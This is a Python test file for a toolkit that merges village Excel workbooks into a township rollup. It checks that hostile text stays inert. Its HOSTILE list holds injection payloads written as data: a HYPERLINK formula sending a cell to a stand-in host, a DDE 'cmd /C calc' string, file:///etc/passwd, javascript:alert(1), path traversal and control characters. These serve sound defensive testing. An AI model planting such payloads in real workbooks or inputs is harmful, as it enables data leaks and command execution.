"""Injection: what a village writes is text in every result, and leads nowhere."""

import re
import shutil
import zipfile
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import pytest
from live_office import running
from lxml import etree

from toolkit import flow, papers
from toolkit.demo import DAY, example_township
from toolkit.excel.blank import build_workbook
from toolkit.excel.opened import read_workbook
from toolkit.forms import issuing, village
from toolkit.schema.kinds import Names, Text

HOSTILE = (
    '=HYPERLINK("http://a.example/?"&A1,"点这里")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    "\t=1",
    "{=1+1}",
    "[点这里](http://a.example)",
    "http://a.example",
    "file:///etc/passwd",
    "external:/etc/passwd",
    "internal:总览!A1",
    "mailto:a@a.example",
    "../../x",
    "C:\\windows\\x",
    "javascript:alert(1)",
    '村/乡:镇*?"<>|',
    "o'clock]![1]#'%41&amp;<b>",
    "上\n河\n村",
    "上\u202e河\u200f村",
    "上\x07河\x1b村",
    "_x0041_",
    "长" * 32_767,
)


MOST = 4  # texts of a workbook
NAMES = tuple(f"{5000 + n}{' #%41!' * (n == 0)}.xlsx" for n in range(-(-len(HOSTILE) // MOST)))


def books(folder: Path, texts: tuple[str, ...]) -> Path:
    """Workbooks in which each text stands in every column of words; some in every column at all.

    The first of a workbook's four texts is the village's name, too.
    """
    (folder / "村级工作簿").mkdir(parents=True)
    example = example_township().villages[0]
    for number, name in enumerate(NAMES):
        own = texts[number * MOST : (number + 1) * MOST]
        filling = {}
        for row in village.FORM.rows:
            words = {column.name for column in row.columns if isinstance(column.kind, Text | Names)}
            rows = [
                {**each, **dict.fromkeys(words & each.keys(), text)}
                for each, text in zip(example.filling.get(row, ()), own, strict=False)
            ]
            if not row.vertical:
                rows.append({column.name: own[0] for column in row.columns})
            filling[row] = rows
        filling[village.Profile][0] |= {"code": name[:4], "village": own[0], "year": 2022}
        data = build_workbook(village.FORM, issuing.identity(name[:4], "2022"), filling)
        (folder / "村级工作簿" / name).write_bytes(data)
    return folder


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    return books(tmp_path_factory.mktemp("注入"), HOSTILE)


@pytest.fixture(scope="module")
def rollup(hostile) -> Path:
    target = hostile / "汇总" / "镇汇总.xlsx"
    assert flow.consolidate([hostile / "村级工作簿"], target, DAY).written
    return target


@pytest.fixture(scope="module")
def harmless(tmp_path_factory) -> Path:
    """The rollup of as many villages with harmless words."""
    folder = books(tmp_path_factory.mktemp("无害"), tuple(f"村{n}" for n in range(len(HOSTILE))))
    target = folder / "汇总" / "镇汇总.xlsx"
    flow.consolidate([folder / "村级工作簿"], target, DAY)
    return target


def parts(path: Path) -> dict[str, etree._Element]:
    with zipfile.ZipFile(path) as package:
        return {
            name: etree.fromstring(package.read(name))
            for name in package.namelist()
            if name.endswith((".xml", ".rels"))
        }


def computed(path: Path) -> set[str]:
    """Everything in a workbook that a program computes, without the numbers in it."""
    kinds = ("f", "formula", "formula1", "formula2", "definedName")
    return {
        re.sub(r"\d+", "0", "".join(element.itertext()))
        for root in parts(path).values()
        for element in root.iter("{*}f", *(f"{{*}}{kind}" for kind in kinds[1:]))
    }


def test_the_rollup_computes_what_it_would_of_harmless_words_and_nothing_else(rollup, harmless):
    assert computed(rollup) <= computed(harmless)
    assert not any("HYPERLINK" in text or "cmd" in text for text in computed(rollup))
    assert len(computed(harmless)) > 20


def test_no_link_leads_anywhere_but_to_the_workbooks_that_were_read(rollup):
    targets = [
        unquote(element.get("Target")).replace("\\", "/")  # as Excel spells them
        for name, root in parts(rollup).items()
        if name.endswith(".rels")
        for element in root
        if element.get("TargetMode") == "External"
    ]
    ways = [f"../村级工作簿/{name}" for name in NAMES]
    assert {way for way in ways for target in targets if target.startswith(way)} == set(ways)
    for target in targets:
        [place] = [target.removeprefix(way).lstrip("#") for way in ways if target.startswith(way)]
        assert re.fullmatch(r"('[^']+'!\$?[A-Z]+\$?\d+)?", place), target
    within = [
        element.get("location")
        for root in parts(rollup).values()
        for element in root.iter("{*}hyperlink")
        if element.get("location")
    ]
    titles = openpyxl.load_workbook(rollup, read_only=True).sheetnames
    for place in within:
        title = re.match(r"'?([^'!]+)'?!", place)
        assert title is None or title[1] in {*titles, *village.FORM.sheets()}, place


def test_every_word_is_in_the_rollup_as_the_village_has_written_it(rollup, hostile):
    held = {
        cell.value
        for sheet in openpyxl.load_workbook(rollup).worksheets
        for line in sheet.iter_rows()
        for cell in line
        if cell.data_type == "s"
    }
    for name in NAMES:
        book = read_workbook(hostile / "村级工作簿" / name, (village.FORM,))
        own = HOSTILE[NAMES.index(name) * MOST :][:MOST]
        for measure, text in zip(book.rows(village.Measure), own, strict=False):
            if text.isprintable():
                assert (measure.text or "").strip() == text.strip()
            assert measure.text in held, text[:40]


def test_no_word_makes_a_file_outside_the_folder_of_papers(hostile, tmp_path):
    folder = shutil.copytree(hostile / "村级工作簿", tmp_path / "a" / "村级工作簿")
    paper, draft = papers.Paper("整顿方案", None, DAY), papers.Manner(draft=True)
    papers.write_papers(paper, [folder], tmp_path / "a" / "公文", manner=draft)
    flow.check_into(
        flow.Wanted("xlsx", tmp_path / "a" / "核对.xlsx", tmp_path / "a" / "回传件"), [folder], DAY
    )
    places = {
        path.parent.relative_to(tmp_path).as_posix()
        for path in tmp_path.rglob("*")
        if path.is_file()
    }
    assert places == {"a", "a/公文", "a/回传件", "a/村级工作簿"}
    assert len(list((tmp_path / "a" / "公文").iterdir())) == len(NAMES)


def test_a_cell_as_full_as_can_be_stops_no_result(tmp_path):
    folder = books(tmp_path, ("长" * 32_767,) * len(HOSTILE))
    assert flow.consolidate([folder / "村级工作簿"], tmp_path / "镇汇总.xlsx", DAY).written


@pytest.mark.office
def test_an_office_program_finds_no_formula_but_ours(rollup):
    with zipfile.ZipFile(rollup) as package:
        sheets = [name for name in package.namelist() if re.match(r"xl/worksheets/sheet\d+", name)]
        ours = sum(package.read(name).count(b"<f>") for name in sheets)
    with running() as office:
        office.open(rollup.read_bytes())
        found = office.formulas()
    assert len(found) == ours
    assert not any("HYPERLINK" in text or "cmd" in text for text, _ in found.values())
